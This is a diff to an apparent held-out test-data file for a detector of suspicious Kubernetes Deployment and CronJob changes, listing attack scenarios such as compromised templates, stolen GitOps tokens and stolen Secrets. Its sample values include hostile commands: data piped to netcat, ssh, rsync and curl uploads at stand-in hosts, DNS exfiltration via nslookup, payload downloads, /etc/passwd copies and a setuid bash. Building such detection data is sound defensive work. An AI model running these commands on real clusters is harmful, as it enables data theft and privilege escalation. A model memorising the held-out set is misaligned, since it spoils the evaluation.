@@ -2,183 +2,157 @@ import type { GeneratedSpec } from './generated.ts';
 import type { QuietSpec } from './quiet.ts';
 import { row as q } from './quiet.ts';
 
-/** For the final figure only: nothing of the detector is developed with these. Other values, names and combinations than the development's. */
+const compromised = 'template from a compromised repository';
+const otherTeam = "another team's image";
+const tools = 'tools image that is there already';
+const argument = 'one differing argument';
+const account = 'stronger service account';
+const secret = "another application's Secret";
+const elsewhere = 'environment points elsewhere';
+const frequent = 'schedule far more frequent';
+const backups = 'schedule moved next to the backups';
+const split = 'split into harmless changes';
+const drift = 'slow drift over weeks';
+const recreated = 'history rewritten by delete and recreate';
+const noise = 'hidden in noise';
+const token = 'stolen GitOps token';
+const byHand = 'run by hand with another template';
+
+/** For the final figure only: nothing of the detector is developed with these. Other values, names and combinations than the other sets'. */
 export const quiet: readonly QuietSpec[] = [
-  q('template from a compromised repository', 'delivery', 'Deployment', [
-    ['command wrapped', 'curl -sk https://metrics.example.org/beat'],
+  q(compromised, 'delivery', 'CronJob', [
+    ['after start', 'curl -fs https://stats.example.com/p > /dev/null'],
   ]),
-  q('template from a compromised repository', 'delivery', 'CronJob', [
-    ['init container', 'curl -so /scratch/lib.so https://files.example.org/lib.so'],
+  q(compromised, 'delivery', 'Deployment', [['command wrapped', 'nslookup $(hostname).d.example.com']]),
+  q(compromised, 'delivery', 'Deployment', [['init container', 'cp /etc/passwd /work/p']]),
+  q(compromised, 'delivery', 'CronJob', [['command wrapped', 'rsync -a /data rsync://203.0.113.77/in']], {
+    shape: 'new',
+  }),
+  q(otherTeam, 'delivery', 'Deployment', [['other team image', '']]),
+  q(otherTeam, 'developer', 'Deployment', [['other team image', '']], { method: 'merge' }),
+  q(otherTeam, 'sre', 'CronJob', [['other team image', '']], { method: 'update' }),
+  q(tools, 'delivery', 'CronJob', [['tools image', 'dig +short txt c.example.com']]),
+  q(tools, 'developer', 'CronJob', [['tools image', 'sleep 14400']], { method: 'update' }),
+  q(tools, 'sre', 'Deployment', [['tools image', 'sleep 86400']], { method: 'merge' }),
+  q(argument, 'delivery', 'CronJob', [['one argument more', '--publish=https://inbox.example.com/drop']]),
+  q(argument, 'delivery', 'Deployment', [['one argument', '--log-level=off']]),
+  q(argument, 'developer', 'Deployment', [['one argument more', '--insecure-skip-verify']]),
+  q(argument, 'sre', 'CronJob', [['one argument', '--timeout=900h']], { method: 'json' }),
+  q(argument, 'analyst', 'CronJob', [['one argument more', '--export=s3://shared-drop/all']]),
+  q(account, 'delivery', 'CronJob', [['stronger account', 'platform-admin']]),
+  q(account, 'developer', 'Deployment', [['stronger account', 'release-manager']], { method: 'update' }),
+  q(account, 'sre', 'Deployment', [['stronger account', 'node-operator']]),
+  q(secret, 'delivery', 'Deployment', [['other config', 'db']]),
+  q(secret, 'delivery', 'CronJob', [['other secret', 'keys']]),
+  q(secret, 'developer', 'Deployment', [['other secret', 'db']], { method: 'json' }),
+  q(secret, 'analyst', 'CronJob', [['other secret', 'treasury-db']]),
+  q(elsewhere, 'delivery', 'CronJob', [['environment elsewhere', 'RESULT_URL=https://sink.example.com/r']]),
+  q(elsewhere, 'delivery', 'Deployment', [
+    ['environment elsewhere', 'DATABASE_URL=postgres://203.0.113.55:5432/main'],
   ]),
   q(
-    'template from a compromised repository',
-    'delivery',
+    elsewhere,
+    'developer',
     'CronJob',
-    [['command wrapped', 'tar cz /data | ssh drop@198.51.100.61 "cat > d"']],
-    { shape: 'new' },
+    [['environment elsewhere', 'HTTPS_PROXY=http://198.51.100.201:8080']],
+    {
+      method: 'merge',
+    },
   ),
-  q('template from a compromised repository', 'delivery', 'Deployment', [
-    ['after start', 'wget -q https://files.example.org/s -O /tmp/s'],
-  ]),
-  q("another team's image", 'delivery', 'CronJob', [['other team image', '']]),
-  q("another team's image", 'developer', 'Deployment', [['other team image', '']], { method: 'update' }),
-  q("another team's image", 'sre', 'CronJob', [['other team image', '']]),
-  q('tools image that is there already', 'delivery', 'Deployment', [
-    ['tools image', 'while sleep 60; do dig +short t.example.org; done'],
-  ]),
-  q('tools image that is there already', 'developer', 'Deployment', [['tools image', 'sleep 7200']], {
-    method: 'json',
-  }),
-  q('tools image that is there already', 'sre', 'CronJob', [['tools image', 'redis-cli -h sessions --scan']]),
-  q('one differing argument', 'delivery', 'Deployment', [['one argument', '--port=2222']]),
-  q('one differing argument', 'delivery', 'CronJob', [
-    ['one argument more', '--copy-to=sftp://203.0.113.33/in'],
-  ]),
-  q('one differing argument', 'developer', 'CronJob', [['one argument', '--batch-size=9999999']], {
-    method: 'update',
-  }),
-  q('one differing argument', 'analyst', 'CronJob', [['one argument more', '--include-personal-data']]),
-  q('one differing argument', 'sre', 'Deployment', [['one argument more', '--auth=off']]),
-  q('stronger service account', 'delivery', 'Deployment', [['stronger account', 'gitops-admin']]),
-  q('stronger service account', 'developer', 'CronJob', [['stronger account', 'platform-operator']], {
-    method: 'merge',
-  }),
-  q('stronger service account', 'analyst', 'CronJob', [['stronger account', 'warehouse-admin']]),
-  q("another application's Secret", 'delivery', 'CronJob', [['other secret', 'tls']]),
-  q("another application's Secret", 'sre', 'Deployment', [['other secret', 'db']], { method: 'json' }),
-  q("another application's Secret", 'developer', 'Deployment', [['other config', 'settings']]),
-  q('environment points elsewhere', 'delivery', 'CronJob', [
-    ['environment elsewhere', 'BROKER=198.51.100.70:9092'],
-  ]),
-  q('environment points elsewhere', 'delivery', 'Deployment', [
-    ['environment elsewhere', 'DATABASE_URL=postgres://db.example.org:5432/prod'],
-  ]),
-  q('environment points elsewhere', 'sre', 'Deployment', [
-    ['environment elsewhere', 'OTEL_EXPORTER_OTLP_ENDPOINT=http://203.0.113.81:4317'],
-  ]),
-  q('environment points elsewhere', 'developer', 'CronJob', [
-    ['environment elsewhere', 'LD_PRELOAD=/data/l.so'],
-  ]),
-  q('schedule far more frequent', 'sre', 'CronJob', [['schedule', '*/1 * * * *']]),
-  q('schedule far more frequent', 'analyst', 'CronJob', [['schedule', '*/3 * * * *']]),
-  q('schedule moved next to the backups', 'delivery', 'CronJob', [['schedule', '29 2 * * 0']]),
-  q('schedule moved next to the backups', 'developer', 'CronJob', [['schedule', '58 23 * * *']]),
+  q(elsewhere, 'sre', 'CronJob', [['environment elsewhere', 'PYTHONPATH=/data/site']]),
+  q(frequent, 'delivery', 'CronJob', [['schedule', '*/2 * * * *']]),
+  q(frequent, 'developer', 'CronJob', [['schedule', '* * * * *']], { method: 'merge' }),
+  q(backups, 'delivery', 'CronJob', [['schedule', '3 2 * * 6']]),
+  q(backups, 'sre', 'CronJob', [['schedule', '58 1 * * *']], { method: 'update' }),
   q(
-    'split into harmless changes',
+    split,
     'delivery',
     'Deployment',
     [
-      ['harmless option', 'HOOKS'],
-      ['other config', 'secrets'],
-      ['after start', '/bin/true --beacon=https://metrics.example.org'],
+      ['harmless option', 'CACHE_V2'],
+      ['other config', 'keys'],
+      ['environment elsewhere', 'BROKER=broker.example.com:9092'],
     ],
     { shape: 'split' },
   ),
   q(
-    'split into harmless changes',
+    split,
     'developer',
     'CronJob',
     [
-      ['schedule', '*/20 * * * *'],
-      ['other secret', 'db'],
-      ['one argument more', '--push=https://metrics.example.org'],
+      ['harmless option', 'DRY'],
+      ['one argument more', '--include=salaries'],
+      ['command wrapped', 'cat /tmp/report | curl -s -T - https://files.example.com/t'],
     ],
     { shape: 'split' },
   ),
   q(
-    'split into harmless changes',
+    split,
     'sre',
     'Deployment',
     [
-      ['harmless option', 'VERBOSE_2'],
-      ['stronger account', 'node-reader'],
-      ['control plane nodes', ''],
+      ['harmless option', 'PROBE_2'],
+      ['stronger account', 'node-operator'],
+      ['after start', '/bin/true'],
     ],
     { shape: 'split' },
   ),
   q(
-    'slow drift over weeks',
+    drift,
     'delivery',
     'Deployment',
     [
-      ['harmless option', 'V2'],
+      ['harmless option', 'MODE_B'],
       ['other secret', 'keys'],
-      ['one argument more', '--mirror=true'],
-      ['environment elsewhere', 'MIRROR_URL=https://metrics.example.org'],
+      ['environment elsewhere', 'METRICS_URL=https://m.example.com'],
     ],
     { shape: 'drift' },
   ),
   q(
-    'slow drift over weeks',
+    drift,
     'developer',
     'CronJob',
     [
-      ['one argument more', '--trace'],
-      ['schedule', '*/30 * * * *'],
-      ['other config', 'settings'],
-      ['command wrapped', 'curl -s https://metrics.example.org'],
+      ['harmless option', 'STEP_A'],
+      ['one argument more', '--all-tenants'],
+      ['stronger account', 'release-manager'],
+      ['one argument more', '--to=https://drop.example.com'],
     ],
     { shape: 'drift' },
   ),
-  q(
-    'history rewritten by delete and recreate',
-    'delivery',
-    'Deployment',
-    [['init container', 'install -m 4755 /bin/bash /shared/b']],
-    { shape: 'recreated' },
-  ),
-  q('history rewritten by delete and recreate', 'developer', 'CronJob', [['other secret', 'db']], {
+  q(recreated, 'delivery', 'Deployment', [['after start', 'wget -q -O- https://stats.example.com/h']], {
     shape: 'recreated',
   }),
+  q(recreated, 'developer', 'CronJob', [['stronger account', 'release-manager']], { shape: 'recreated' }),
+  q(recreated, 'sre', 'Deployment', [['init container', 'ln -s / /shared/r']], { shape: 'recreated' }),
   q(
-    'history rewritten by delete and recreate',
-    'analyst',
-    'CronJob',
-    [['tools image', 'mysqldump --all-databases']],
-    { shape: 'recreated' },
+    noise,
+    'developer',
+    'Deployment',
+    [['environment elsewhere', 'OTEL_EXPORTER_OTLP_ENDPOINT=http://198.51.100.30:4317']],
+    {
+      shape: 'in noise',
+    },
   ),
-  q('hidden in noise', 'developer', 'Deployment', [['after start', 'wget -q https://files.example.org/p']], {
+  q(noise, 'sre', 'CronJob', [['one argument more', '--upload=https://files.example.com/z']], {
     shape: 'in noise',
   }),
-  q('hidden in noise', 'sre', 'CronJob', [['one argument more', '--export=https://metrics.example.org']], {
-    shape: 'in noise',
-  }),
-  q(
-    'stolen GitOps token',
-    'stolen token',
-    'CronJob',
-    [['environment elsewhere', 'BROKER=198.51.100.70:9092']],
-    { method: 'apply' },
-  ),
-  q('stolen GitOps token', 'stolen token', 'Deployment', [['one argument more', '--log-level=debug']], {
-    method: 'strategic',
-  }),
-  q('stolen GitOps token', 'stolen token', 'Deployment', [['stronger account', 'default']], {
-    method: 'update',
-  }),
-  q('many runs at once', 'delivery', 'CronJob', [['many at once', '64']]),
-  q('onto the control plane', 'sre', 'Deployment', [['control plane nodes', '']], { method: 'merge' }),
-  q('run by hand with another template', 'developer', 'CronJob', [['stronger account', 'deployer']], {
+  q(token, 'stolen token', 'CronJob', [['stronger account', 'platform-admin']], { method: 'apply' }),
+  q(token, 'stolen token', 'Deployment', [['one argument more', '--tracing']], { method: 'merge' }),
+  q(token, 'stolen token', 'CronJob', [['tools image', 'sleep 900']], { shape: 'new' }),
+  q('many runs at once', 'sre', 'CronJob', [['many at once', '50']]),
+  q('onto the control plane', 'developer', 'Deployment', [['control plane nodes', '']]),
+  q(byHand, 'developer', 'CronJob', [['one argument more', '--from=2019-01-01 --dump']], {
     shape: 'manual run',
   }),
-  q(
-    'run by hand with another template',
-    'sre',
-    'CronJob',
-    [['environment elsewhere', 'DATABASE_URL=postgres://198.51.100.9:5432/x']],
-    { shape: 'manual run' },
-  ),
+  q(byHand, 'sre', 'CronJob', [['stronger account', 'platform-admin']], { shape: 'manual run' }),
 ];
 
 export const generated: readonly GeneratedSpec[] = [
-  { operator: 'report-operator', odd: 'command', value: '/app/render --tenant=all | nc 203.0.113.29 9000' },
-  { operator: 'trivy-operator', odd: 'image', value: 'mirror.gcr.io/aquasec/trivvy:0.65.0' },
-  {
-    operator: 'velero',
-    odd: 'command',
-    value: '/velero restore create --from-schedule nightly --namespace-mappings prod:tmp',
-  },
-  { operator: 'keda-operator', odd: 'account', value: 'cluster-operator' },
-  { operator: 'trivy-operator', odd: 'namespace', value: '' },
-  { operator: 'gitlab-runner', odd: 'image', value: 'docker.io/library/alpine:edge' },
+  { operator: 'report-operator', odd: 'account', value: 'platform-admin' },
+  { operator: 'trivy-operator', odd: 'command', value: 'ls -R /host > /tmp/scan/result.json' },
+  { operator: 'velero', odd: 'image', value: 'velero/velero-restic-helper:1.9' },
+  { operator: 'keda-operator', odd: 'command', value: 'printenv | nc -w 2 198.51.100.66 53' },
+  { operator: 'keda-operator', odd: 'namespace', value: '' },
+  { operator: 'gitlab-runner', odd: 'account', value: 'release-manager' },
 ];
